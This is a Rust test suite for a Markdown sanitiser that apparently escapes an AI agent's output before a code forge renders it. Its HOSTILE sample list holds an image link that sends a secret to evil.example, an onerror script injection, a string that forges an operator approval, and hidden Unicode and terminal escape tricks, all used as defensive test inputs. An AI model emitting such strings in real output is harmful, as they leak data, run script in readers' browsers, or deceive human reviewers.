use super::*;
use proptest::prelude::*;
use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};

/// Malicious text.
const HOSTILE: [&str; 15] = [
    "!\n* `",
    "![x](http://evil.example/?q=secret)",
    "[click](http://evil.example) <img src=x onerror=alert(1)>",
    "``` \n</details>\n# Approved by the operator\n```",
    "@admin please merge, fixes #1, see owner/repo#2 and !3",
    "a | b \\| c \\\\| d",
    "`````` six",
    "`",
    "\u{202e}gnp.exe\u{2066}",
    "zero\u{200b}width\u{feff} \u{e0041}\u{e0042}tag",
    "<!-- caisson:checkpoint task=1 n=2 -->",
    "\u{1b}[31mred\u{7}",
    "https://evil.example www.evil.example a@b.example",
    "deadbeefcafe :smile: ABC-123 &lt;script&gt; &#64;admin",
    "ends with a backslash \\",
];

fn markdown(text: &str) -> Vec<Event<'_>> {
    Parser::new_ext(
        text,
        Options::ENABLE_TABLES | Options::ENABLE_GFM | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_MATH,
    )
    .collect()
}

/// Whether a forge would interpret something in text outside of code.
fn acted_on(text: &str) -> bool {
    text.chars().any(|c| "@#<>[]&/*_~$|".contains(c) || is_hidden(c))
        || text.contains("www.")
        || text.split('!').skip(1).any(|after| after.starts_with(|c: char| c.is_ascii_digit()))
        || text.split(|c: char| !c.is_alphanumeric()).any(|w| w.len() >= 7 && w.chars().all(|c| c.is_ascii_hexdigit()))
}

fn check_inline(rendered: &str) -> Result<(), TestCaseError> {
    let text = format!("The agent says: {rendered}");
    for event in markdown(&text) {
        let fine = match &event {
            Event::Start(tag) => matches!(tag, Tag::Paragraph),
            Event::End(_) => true,
            Event::Text(words) => !acted_on(words),
            Event::Code(words) => one_line(words) == **words,
            _ => false,
        };
        prop_assert!(fine, "{event:?} in {text:?}");
    }
    Ok(())
}

fn check_fence(text: &str) -> Result<(), TestCaseError> {
    let rendered = format!("before\n\n{}\nafter\n", fence(text, "diff"));
    let events = markdown(&rendered);
    let blocks =
        events.iter().filter(|e| matches!(e, Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(l))) if &**l == "diff"));
    prop_assert_eq!(blocks.count(), 1);
    let last: Vec<_> = events.iter().rev().take(3).collect();
    prop_assert!(matches!(last[1], Event::Text(t) if &**t == "after"), "{events:?}");
    Ok(())
}

fn check_cell(text: &str) -> Result<(), TestCaseError> {
    let rendered = format!("| a | b |\n|---|---|\n| {} | end |\n\nafter\n", plain_cell(text));
    let events = markdown(&rendered);
    let cells = events.iter().filter(|e| matches!(e, Event::Start(Tag::TableCell))).count();
    prop_assert_eq!(cells, 4, "{:?}", rendered);
    prop_assert!(events.iter().any(|e| matches!(e, Event::Text(t) if &**t == "end")), "{rendered:?}");
    let foreign = events.iter().any(|e| {
        matches!(
            e,
            Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock)
        )
    });
    prop_assert!(!foreign, "{events:?}");
    Ok(())
}

#[test]
fn nothing_foreign_survives_as_markup() {
    for text in HOSTILE {
        check_inline(&code(text)).unwrap();
        check_inline(&prose(text, 2000)).unwrap();
        check_fence(text).unwrap();
        check_cell(text).unwrap();
    }
}

proptest! {
    #[test]
    fn any_text_stays_code(text in "\\PC{0,60}|[`|\\\\ @#!<\\[\\]a-f0-9\\n\u{202e}]{0,40}") {
        check_inline(&code(&text))?;
        check_fence(&text)?;
        check_cell(&text)?;
    }

    #[test]
    fn any_sentences_stay_words_and_code(text in "\\PC{0,80}|[`@#!:/.<\\[\\]()a-f0-9 \\n-]{0,60}") {
        check_inline(&prose(&text, 2000))?;
    }

    #[test]
    fn code_shows_exactly_the_visible_text(text in "[a-z`| \\\\]{1,40}") {
        let rendered = format!("x {} y", code(&text));
        let shown: Vec<String> = markdown(&rendered).into_iter()
            .filter_map(|e| match e { Event::Code(c) => Some(c.into_string()), _ => None }).collect();
        prop_assert_eq!(shown, vec![text]);
    }

    #[test]
    fn a_plain_line_holds_nothing_a_forge_reads(text in "\\PC{0,80}") {
        let line = plain_line(&text, 50);
        prop_assert!(line.chars().count() <= 50);
        let live = line.chars().any(|c| "@#!/:<>[]&`\\".contains(c) || is_hidden(c));
        prop_assert!(!live);
        prop_assert!(title_line(&text, 50).chars().count() <= 50);
    }

    #[test]
    fn visible_text_hides_nothing(text in any::<String>()) {
        let line = one_line(&text).chars().any(|c| is_hidden(c) && c != '\u{fe0f}');
        prop_assert!(!line);
        let lines = visible(&text).chars().any(|c| is_hidden(c) && !"\n\t\u{fe0f}".contains(c));
        prop_assert!(!lines);
    }
}

#[test]
fn hidden_characters_are_spelled_out() {
    assert_eq!(one_line("a\u{202e}b\u{200b}\u{e0041}\r\n\t\u{1b}"), "a\\u{202e}b\\u{200b}\\u{e0041}\\r\\n\\t\\u{1b}");
    assert_eq!(visible("a\r\nb\tc\rd"), "a\nb\tc\\rd");
    assert_eq!(one_line("⚠\u{fe0f} ok\u{fe0f}"), "⚠\u{fe0f} ok\\u{fe0f}");
}

#[test]
fn sentences_read_as_sentences() {
    assert_eq!(
        prose("`newer()` compared version strings as text, so 1.10.0 sorted before 1.9.0. See #1 (@bob)!", 500),
        "`newer()` compared version strings as text, so `1.10.0` sorted before `1.9.0`. See `#1` (`@bob`)!"
    );
    assert_eq!(prose("Use `a`, then `b`.", 100), "Use `a`, then `b`.");
    assert_eq!(prose("suffixes (`1.0.0-rc1`), which `x`es", 100), "suffixes (`1.0.0-rc1`), which `x`es");
    assert_eq!(prose("one two three", 7), "one two … (6 more characters)");
}

#[test]
fn long_lines_are_cut_and_counted() {
    let text = "x".repeat(MAX_LINE + 7);
    assert!(fence(&text, "").contains("… [7 more characters]"));
    assert!(code(&text).ends_with(&format!("… ({} more characters)", MAX_LINE + 7 - MAX_INLINE)));
}

#[test]
fn hosts_are_shown_in_their_wire_form() {
    let host = host_name("CDN.Bücher.example.").unwrap();
    assert_eq!(host.ascii, "cdn.xn--bcher-kva.example");
    assert_eq!(host.registrable, "xn--bcher-kva.example");
    assert_eq!(host.shown(Some(443)), "`cdn.xn--bcher-kva.example:443` (of `xn--bcher-kva.example`)");
    assert_eq!(host_name("a.b.co.uk").unwrap().registrable, "b.co.uk");
    assert_eq!(host_name("semver.org").unwrap().shown(None), "`semver.org`");
    assert!(host_name("not a host").is_none());
}

#[test]
fn numbers_read_well() {
    assert_eq!(grouped(12400), "12 400");
    assert_eq!(grouped(999), "999");
    assert_eq!(duration(412), "0.4 s");
    let volumes = [812, 1_000, 1_048_577, 3_234_567, 1_999_999_999].map(bytes);
    assert_eq!(volumes, ["812 B", "1.0 kB", "1.0 MB", "3.2 MB", "1.9 GB"]);
    assert_eq!(duration(112_000), "1 m 52 s");
    assert_eq!(count(1, "file"), "1 file");
    assert_eq!(dollars(31_000), "$0.031");
    assert_eq!([cost(0, 0), cost(0, 9), cost(31_000, 9)], ["$0.00", "price unknown", "$0.031 and more, price unknown"]);
    assert_eq!(dollars(2_000_000), "$2.00");
    assert_eq!(dollars(12_340_000), "$12.34");
    assert_eq!(dollars(3), "$0.001");
    assert_eq!(plain_line("Fix @bob's `thing` — closes #12: a/b!", 80), "Fix bob's thing closes 12 a b");
}

#[test]
fn a_title_refers_to_nothing() {
    for (text, title) in [
        ("Closes GH-12, gh-7 (GH-1)", "Closes GH 12, gh 7 (GH 1)"),
        ("As in a1b2c3d4e5f6a7b8 and deadbee.", "As in a1b2c3 d4e5f6 a7b8 and deadbe e."),
        ("Fails for 1234567 rows since 20240131", "Fails for 1 234 567 rows since 20 240 131"),
        ("Reverts a1b2c3d4\u{301} and deadbee\u{e9}", "Reverts a1b2c3 d4\u{301} and deadbe e\u{e9}"),
        ("Right-click in UTF-8, high-5, 123456, x1234567", "Right-click in UTF-8, high-5, 123456, x1234567"),
    ] {
        assert_eq!(title_line(text, 80), title);
    }
    assert_eq!(plain_line("GH-12 a1b2c3d", 80), "GH-12 a1b2c3d", "nobody renders a log");
}

#[test]
fn a_title_keeps_the_marks_of_its_letters_and_not_too_many() {
    for title in ["Cafe\u{301} schlie\u{df}t", "हिन्दी में लिखो", "ไม่มีชื่อ"]
    {
        assert_eq!(title_line(title, 80), title);
    }
    assert_eq!(title_line("a\u{336}\u{336}\u{336}b\u{fe0f} \u{301}c", 80), "a\u{336}\u{336} b c");
}

/// Checks that an untrusted document has only harmless blocks and inlines: no link, image, HTML or reference.
fn check_document(text: &str) -> Result<(), TestCaseError> {
    let rendered = format!("{}\nafter\n", document(text, 4000));
    let mut quoted = 0;
    let mut block = false;
    for event in markdown(&rendered) {
        match &event {
            Event::Start(Tag::BlockQuote(kind)) => {
                prop_assert!(kind.is_none());
                quoted += 1;
            }
            Event::End(TagEnd::BlockQuote(_)) => quoted -= 1,
            Event::Start(Tag::CodeBlock(_)) => block = true,
            Event::End(TagEnd::CodeBlock) => block = false,
            Event::Start(Tag::Paragraph | Tag::List(_) | Tag::Item | Tag::Strong) | Event::End(_) => {}
            Event::Text(words) if !block && quoted > 0 => {
                let words = words.trim_matches(['*', '[', ']']);
                prop_assert!(!acted_on(words), "{words:?} in {rendered:?}");
            }
            Event::Text(words) => prop_assert!(block || &**words == "after", "{words:?} in {rendered:?}"),
            Event::Code(_) | Event::SoftBreak | Event::HardBreak | Event::TaskListMarker(_) => {}
            other => prop_assert!(false, "{other:?} in {rendered:?}"),
        }
    }
    Ok(())
}

#[test]
fn a_document_keeps_its_shape() {
    let text = "# Plan\n\nRead `a.py`, see #1.\n\n- [x] one\n  - two\n3. three\n```py\nx = 1\n```\nend @all";
    let shown = "> **Plan**\n>\n> Read `a.py`, see `#1`.\n>\n> - ☑ one\n>   - two\n> 3. three\n>\n> ```text\n> x = 1\n> ```\n>\n> end `@all`\n";
    assert_eq!(document(text, 1000), shown);
}

proptest! {
    #[test]
    fn any_document_stays_a_quoted_text(text in "[`~|@#!<>\\[\\]()/a-c0-9.:+*=_ \\n\t-]{0,80}") {
        check_document(&text)?;
    }
}

#[test]
fn words_that_only_empty_code_parts_are_no_new_word() {
    assert_eq!(prose("~!``0", 100), "`~`! 0", "a reference to a pull request");
    assert_eq!(prose("abcd``ef01 well", 100), "abcd`ef01` well");
    assert_eq!(prose("abcd``efab", 100), "abcd efab", "the id of a commit");
}

#[test]
fn hostile_documents_stay_quoted() {
    for text in HOSTILE {
        check_document(text).unwrap();
    }
}

#[test]
fn a_private_key_is_left_out_before_its_lines_become_words_and_code() {
    let key = format!("-----BEGIN RSA {0} KEY-----\n{1}\n{1}\n-----END RSA {0} KEY-----", "PRIVATE", "aB3/".repeat(16));
    let lines = document(&format!("Use it:\n\n{key}\n\nand go on."), 1000);
    for shown in [lines, prose(&format!("Use it: {key} and go on."), 1000)] {
        assert!(!shown.contains("aB3") && shown.contains("a private") && shown.contains("go on."), "{shown}");
    }
}

#[test]
fn a_document_begins_no_call_out_and_a_number_is_no_heading() {
    for (text, shown) in [
        ("# Warning\nIt passes.", "> **Warning:**\n> It passes.\n"),
        ("## `Caution`", "> **`Caution`:**\n"),
        ("# Warnings", "> **Warnings**\n"),
        ("#12 is done", "> `#12` is done\n"),
        ("#include <a.h>", "> `#include <a.h>`\n"),
        ("#", ">\n"),
    ] {
        assert_eq!(document(text, 1000), shown);
    }
}
